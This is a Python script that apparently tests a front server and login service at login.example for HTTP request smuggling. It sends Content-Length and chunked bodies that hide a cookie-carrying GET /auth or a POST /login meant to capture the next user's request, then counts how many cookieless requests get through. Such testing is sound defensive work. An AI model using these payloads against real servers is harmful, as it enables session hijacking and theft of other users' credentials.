#!/usr/bin/env python3
"""Tries to leave bytes of one request in the way of the next one: smuggle.py COOKIE ADDRESS:PORT|SOCKET [CERTIFICATE]

The front is asked as login.example, by TLS with a CERTIFICATE. COOKIE is that of a session which the attacker has. Each
way is tried ten times: a request with a body that looks like the beginning of another request, followed by a stranger's
request without a cookie. With a SOCKET the service itself is asked, and both requests stand in one connection.

Prints how many strangers were let in, and how many answers one connection gave beyond the first one.
"""
import re
import socket
import ssl
import sys

TIMES = 10
METHODS = "GET", "HEAD", "OPTIONS", "PUT", "DELETE", "POST"


def exchange(place, certificate, data, seconds=5):
    """Sends these bytes by a connection of its own, and returns what comes until it is closed or silent."""
    if ":" in place:
        host, _, port = place.rpartition(":")
        way = socket.create_connection((host, int(port)), seconds)
    else:
        way = socket.socket(socket.AF_UNIX)
        way.settimeout(seconds)
        way.connect(place)
    if certificate:
        way = ssl.create_default_context(cafile=certificate).wrap_socket(way, server_hostname="login.example")
    heard = b""
    with way:
        try:
            way.sendall(data)
            while more := way.recv(65536):
                heard += more
        except OSError:
            pass
    return heard


def request(method, path, body, is_chunked, fields="", close=True):
    """A request whose body is framed by its length or in one chunk."""
    framed = "Transfer-Encoding: chunked" if is_chunked else "Content-Length: %d" % len(body)
    body = "%x\r\n%s\r\n0\r\n\r\n" % (len(body), body) if is_chunked else body
    fields += "Connection: close\r\n" if close else ""
    return ("%s %s HTTP/1.1\r\nHost: login.example\r\n%s%s\r\n\r\n%s" % (method, path, fields, framed, body)).encode()


def main():
    cookie, place, certificate = (sys.argv[1:] + [None])[:3]
    hidden = ["GET /auth HTTP/1.1\r\nHost: login.example\r\nCookie: %s\r\nX-Ignore: " % cookie,
              "GET /auth HTTP/1.1\r\nHost: login.example\r\nCookie: %s\r\n\r\n" % cookie,
              "POST /login HTTP/1.1\r\nHost: login.example\r\nContent-Length: 150\r\n\r\nuser="]
    stranger = b"GET /index.html HTTP/1.1\r\nHost: login.example\r\nConnection: close\r\n\r\n"
    let_in = beyond = tried = 0
    for method in METHODS:
        for body in hidden:
            for is_chunked in False, True:
                for path in "/login", "/":
                    for _ in range(TIMES if ":" in place else 1):
                        tried += 1
                        attack = request(method, path, body, is_chunked, close=":" in place)
                        told = exchange(place, certificate, attack, 5 if ":" in place else 1)
                        beyond += max(0, len(re.findall(rb"HTTP/1\.[01] [0-9]{3} ", told)) - 1)
                        if ":" in place and method != "POST":
                            let_in += b" 200 " in exchange(place, certificate, stranger).split(b"\r\n")[0]
    print("%d tried, %d strangers let in, %d answers beyond the first" % (tried, let_in, beyond))


if __name__ == "__main__":
    main()
